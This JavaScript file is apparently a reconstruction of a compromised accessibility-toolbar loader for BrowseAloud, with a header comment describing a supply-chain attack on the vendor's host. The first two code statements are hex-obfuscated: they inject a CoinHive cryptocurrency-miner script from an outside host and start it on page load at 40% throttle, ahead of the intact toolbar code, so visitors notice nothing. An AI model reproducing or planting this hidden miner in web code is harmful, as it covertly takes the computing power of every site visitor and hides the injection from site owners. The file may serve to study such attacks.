// The altered accessibility-toolbar loader served from the plugin vendor's own host to every
// site that embedded it: one line was inserted ahead of the toolbar code, hex-escaped, that
// writes a script tag for the CoinHive library into the page (a random query defeats the
// cache) and on page load starts an anonymous miner keyed to the attacker's account at a
// 40 % throttle. The toolbar itself keeps working, so nothing looks wrong to the visitor.
window["\x64\x6f\x63\x75\x6d\x65\x6e\x74"]["\x77\x72\x69\x74\x65"]("\x3c\x73\x63\x72\x69\x70\x74\x20\x74\x79\x70\x65\x3d\x27\x74\x65\x78\x74\x2f\x6a\x61\x76\x61\x73\x63\x72\x69\x70\x74\x27\x20\x73\x72\x63\x3d\x27\x68\x74\x74\x70\x73\x3a\x2f\x2f\x63\x6f\x69\x6e\x68\x69\x76\x65\x2e\x69\x6e\x76\x61\x6c\x69\x64\x2f\x6c\x69\x62\x2f\x63\x6f\x69\x6e\x68\x69\x76\x65\x2e\x6d\x69\x6e\x2e\x6a\x73\x3f\x72\x6e\x64\x3d" + window["\x4d\x61\x74\x68"]["\x72\x61\x6e\x64\x6f\x6d"]() + "\x27\x3e\x3c\x2f\x73\x63\x72\x69\x70\x74\x3e");
window.onload = function () {
  var miner = new CoinHive.Anonymous("\x37\x68\x51\x6b\x5a\x72\x32\x70\x57\x63\x4e\x35\x76\x58\x30\x61\x4a\x62\x54\x33\x79\x4c\x6d\x45\x38\x73\x44\x66\x47\x34\x75\x4b", { throttle: 0.4 });
  miner.start();
};
var BrowseAloud = BrowseAloud || {};
BrowseAloud.config = {
  server: "https://www.browsealoud.invalid/plugs/",
  version: "2.5.0",
  toolbarPosition: "top",
  voices: ["en-GB-female", "en-GB-male", "cy-GB-female"]
};
BrowseAloud.loadToolbar = function () {
  var head = document.getElementsByTagName("head")[0];
  var css = document.createElement("link");
  css.rel = "stylesheet";
  css.href = BrowseAloud.config.server + "ba-toolbar.css?v=" + BrowseAloud.config.version;
  head.appendChild(css);
  var tb = document.createElement("script");
  tb.src = BrowseAloud.config.server + "toolbar/" + BrowseAloud.config.version + "/toolbar.js";
  tb.async = true;
  head.appendChild(tb);
};
BrowseAloud.init = function () {
  if (window.__ba_loaded) return;
  window.__ba_loaded = true;
  var btn = document.getElementById("__ba_launchpad");
  if (btn) btn.addEventListener("click", BrowseAloud.loadToolbar);
  else BrowseAloud.loadToolbar();
};
if (document.readyState === "loading") document.addEventListener("DOMContentLoaded", BrowseAloud.init);
else BrowseAloud.init();
